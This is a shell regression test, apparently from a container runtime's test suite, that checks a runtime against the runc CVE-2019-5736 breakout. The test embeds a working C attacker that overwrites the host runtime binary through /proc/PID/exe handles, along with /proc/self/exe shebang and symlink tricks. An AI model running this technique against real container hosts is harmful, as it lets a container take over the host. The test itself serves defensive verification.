#!/bin/bash
# SPDX-License-Identifier: MIT
# runc CVE-2019-5736: the container overwrites the runtime's binary through /proc/PID/exe of an exec.
. "$(dirname "$0")/lib.sh"
setup gcc

# a copy of the runtime, so that a success destroys nothing
cp "$OCI" "$T/oci"
OCI=$T/oci
sum=$(sha256sum <"$OCI")
static attacker <<'C'
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
/* Look for processes whose executable is not ours, hold it open, then reopen for writing until it works. */
int main(void)
{
	time_t end = time(NULL) + 2;
	char self[64] = "", exe[256], path[64];
	int n = 0, seen = 0;
	printf("ready\n"); fflush(stdout);
	while (time(NULL) < end) {
		for (int pid = 2; pid < 60; pid++) {
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			int fd = open(path, O_RDONLY); /* a handle that survives the end of the process */
			if (fd < 0)
				continue;
			ssize_t l = readlink(path, exe, sizeof(exe) - 1);
			if (l > 0) exe[l] = 0;
			if (l > 0 && strstr(exe, "busybox") == NULL && strstr(exe, "attacker") == NULL) {
				seen++;
				snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
				for (int i = 0; i < 2000; i++) {
					int w = open(self, O_WRONLY | O_TRUNC);
					if (w >= 0) { write(w, "#!/bin/sh\nowned\n", 16); printf("wrote\n"); close(w); n++; break; }
				}
			}
			close(fd);
		}
	}
	printf("seen %d wrote %d\n", seen, n);
	return 0;
}
C
caps='.process.capabilities=({bounding:["CAP_DAC_OVERRIDE","CAP_SYS_PTRACE","CAP_SYS_ADMIN","CAP_SYS_RESOURCE"]} | .permitted=.bounding | .effective=.bounding)'
up "$caps" '.linux.maskedPaths=[] | .linux.readonlyPaths=[]'
printf '#!/proc/self/exe\n' >"$B/rootfs/bin/evil"
chmod +x "$B/rootfs/bin/evil"
ln -s /proc/self/exe "$B/rootfs/bin/runtime"
"$OCI" --root "$ROOT" exec "$ID" /attacker >"$T/log" 2>&1 </dev/null &
soon grep -q ready "$T/log"
while kill -0 $! 2>/dev/null; do
	timeout 2 "$OCI" --root "$ROOT" exec "$ID" /bin/evil >/dev/null 2>&1 </dev/null
	timeout 2 "$OCI" --root "$ROOT" exec "$ID" /bin/runtime >/dev/null 2>&1 </dev/null
	timeout 2 "$OCI" --root "$ROOT" exec "$ID" true >/dev/null 2>&1 </dev/null
done
wait
eq "the runtime is as it was" "$(sha256sum <"$OCI")" "$sum"
like "the attacker ran" "$(cat "$T/log")" 'seen [0-9]+'
unlike "and wrote nothing" "$(cat "$T/log")" 'wrote [1-9]'
down
conf '.process.args=["/bin/evil"]' "$caps"
attempt run -b "$B" "$ID"
eq "nor when it is the first program" "$(sha256sum <"$OCI")" "$sum"
